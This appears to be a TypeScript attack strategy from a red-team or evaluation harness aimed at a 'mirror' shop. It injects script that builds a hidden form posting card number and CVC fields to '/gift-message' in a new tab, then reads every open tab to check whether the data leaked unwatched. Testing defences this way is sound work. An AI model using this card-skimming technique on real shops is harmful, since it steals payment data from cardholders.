import type { Strategy } from '#scripts/attack/strategy';

/** The form opens a tab of its own, which nobody holds. */
export const formInNewTab: Strategy = {
  name: 'form that opens another tab',
  channel: 'another tab',
  shops: ['mirror'],
  async run({ page, code, shell }) {
    await page(`const sent = document.createElement('form');
      sent.method = 'post'; sent.action = '/gift-message'; sent.target = '_blank';
      for (const [name, value] of [['card_number', number], ['card_cvc', code]]) {
        const input = document.createElement('input'); input.name = name; input.value = value; sent.append(input);
      }
      document.body.append(sent); sent.submit(); return 'sent';`);
    await code(
      `await page.waitForTimeout(4000);
       return (await Promise.all(page.context().pages().map((one) => one.content().catch(String)))).join('\\n');`,
      'another tab',
    );
    await shell('/gift-message');
  },
};
